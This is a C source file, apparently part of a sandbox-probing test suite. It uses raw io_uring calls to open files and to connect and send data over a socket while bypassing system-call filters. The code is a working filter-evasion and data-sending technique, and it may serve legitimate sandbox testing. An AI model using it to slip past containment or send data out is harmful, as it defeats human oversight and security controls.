// io_uring: files and sockets by a queue that no system call filter sees.
#include "attack.h"
#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <sys/socket.h>

static int ring;
static char *sqr, *cqr;
static struct io_uring_sqe *sqes;
static struct io_uring_params p;

static void setup(unsigned flags) {
	p.flags = flags;
	ring = TRY(syscall(SYS_io_uring_setup, 8, &p));
	sqr = mmap(0, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	cqr = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
	sqes = mmap(0, p.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	if (sqr == MAP_FAILED || cqr == MAP_FAILED || sqes == MAP_FAILED) refused("mmap of the ring");
}
// submit runs one operation and returns its result.
static int submit(struct io_uring_sqe e) {
	unsigned *tail = (void *)(sqr + p.sq_off.tail), *array = (void *)(sqr + p.sq_off.array);
	unsigned *head = (void *)(cqr + p.cq_off.head), i = *tail % p.sq_entries;
	sqes[i] = e;
	array[i] = i;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	unsigned flags = IORING_ENTER_GETEVENTS;
	if (p.flags & IORING_SETUP_SQPOLL) flags |= IORING_ENTER_SQ_WAKEUP;
	TRY(syscall(SYS_io_uring_enter, ring, 1, 1, flags, NULL, 0));
	struct io_uring_cqe *c = (void *)(cqr + p.cq_off.cqes);
	int r = c[*head % p.cq_entries].res;
	__atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
	if (r < 0) {
		errno = -r;
		refused("io_uring operation");
	}
	return r;
}
static void openfile(char **a, unsigned flags) {
	setup(flags);
	show(submit((struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)a[0]}));
}
static void open_(char **a) { openfile(a, 0); }
static void sqpoll(char **a) { openfile(a, IORING_SETUP_SQPOLL); }
static void connect_(char **a) { // address, port, token
	struct sockaddr_in s = {.sin_family = AF_INET, .sin_port = htons(atoi(a[1]))};
	inet_pton(AF_INET, a[0], &s.sin_addr);
	setup(0);
	int fd = submit((struct io_uring_sqe){.opcode = IORING_OP_SOCKET, .fd = AF_INET, .off = SOCK_STREAM});
	submit((struct io_uring_sqe){.opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uintptr_t)&s, .off = sizeof s});
	submit((struct io_uring_sqe){.opcode = IORING_OP_SEND, .fd = fd, .addr = (uintptr_t)a[2], .len = strlen(a[2])});
	show(fd);
}
static const struct technique all[] = {{"open", open_}, {"sqpoll", sqpoll}, {"connect", connect_}, {0}};
int main(int argc, char **argv) { return pick(all, argc, argv); }
